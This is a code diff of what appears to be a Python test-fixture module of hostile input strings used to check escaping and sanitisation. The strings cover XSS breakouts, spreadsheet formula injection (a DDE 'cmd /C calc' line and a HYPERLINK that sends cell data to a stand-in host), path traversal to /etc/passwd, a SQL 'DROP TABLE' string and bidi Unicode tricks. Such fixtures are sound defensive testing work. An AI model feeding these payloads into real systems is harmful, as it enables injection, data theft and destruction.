@@ -14,7 +14,7 @@ _SCRIPTS = {
     "end of style": f"</style></title></textarea></noscript></template><script>{OWNED}</script>",
     "end of comment": f"--><script>{OWNED}</script><!--",
     "end of CDATA": f"]]><script>{OWNED}</script>",
-    "end of attribute": f"\"'` onmouseover=\"{OWNED}\" onfocus='{OWNED}' autofocus tabindex=0 x=\"",
+    "end of attribute": f'"\'` onmouseover="{OWNED}" onfocus=\'{OWNED}\' autofocus tabindex=0 x="',
     "end of string": f"';{OWNED};//\\\";{OWNED};//`${{{OWNED}}}",
     "unbalanced quote": f"\\'-eval(\"{OWNED}\")-\\'",
     "new line in a string": f"\u2028{OWNED}\u2029{OWNED}\r\n{OWNED}//",
@@ -55,7 +55,7 @@ _TEMPLATES = {
     "Plotly": f"<a href='javascript:{OWNED}'>a</a><b>b</b>%{{x}}<br><extra>x</extra> $\\unicode{{<script>}}$",
     "Rich": "[bold red]x[/] [link=http://elsewhere.invalid]y[/link] [/]",
 }
-_LETTERS = {
+LETTERS = {
     "right to left": "\u202egnp.exe\u202c \u2066\u2067reversed\u2069\u2069 \u200f\u061c",
     "right to left, left open": "\u202e\u202e\u2067\u2066 stays open",
     "invisible": "a\u200b\u200c\u200d\u2060\ufeff\u00ad\U000e0041\U000e0042z",
@@ -65,7 +65,8 @@ _LETTERS = {
     "controls": "NUL \x00 BS \x08\x08 BEL \x07 DEL \x7f CR \rover VT \x0b NEL \x85 LS \u2028 PS \u2029",
     "not a character": "\ufffe\uffff\U0001ffff\ufffd",
 }
-_FORMULAS = {
+"""What plays with the order of letters, or with a terminal."""
+FORMULAS = {
     "formula": '=HYPERLINK("http://elsewhere.invalid?"&A1,"click")',
     "command": "=cmd|' /C calc'!A0",
     "plus": "+1+cmd|' /C calc'!A0",
@@ -74,17 +75,18 @@ _FORMULAS = {
     "after a tab": '\t=IMPORTXML("http://elsewhere.invalid","//a")',
     "after a line": '\r=1+1\n=2+2";=3+3,"=4+4',
 }
+"""What a spreadsheet computes."""
 _NAMES = {
     "path": "../../../../etc/passwd",
     "path of Windows": "..\\..\\C:\\con\\aux.html",
     "address": f"http:{_ELSEWHERE}",
     "query": '?a=1&b="><script>window.owned=1</script>#frag%00%2e%2e%2f',
     "empty": " ",
-    "quotes": "O'Brien \"the\" `tick`; DROP TABLE windows; --",
+    "quotes": 'O\'Brien "the" `tick`; DROP TABLE windows; --',
 }
 _HUGE = {"without a blank": "W" * HUGE, "deep": "<div>" * 2_000, "many lines": "line\n" * 2_000}
 
-TEXTS = _SCRIPTS | _REQUESTS | _TEMPLATES | _LETTERS | _FORMULAS | _NAMES | _HUGE
+TEXTS = _SCRIPTS | _REQUESTS | _TEMPLATES | LETTERS | FORMULAS | _NAMES | _HUGE
 """Each by what it tries."""
 SHORT = {name: text for name, text in TEXTS.items() if name not in _HUGE}
 ALL = "\n".join(SHORT.values())
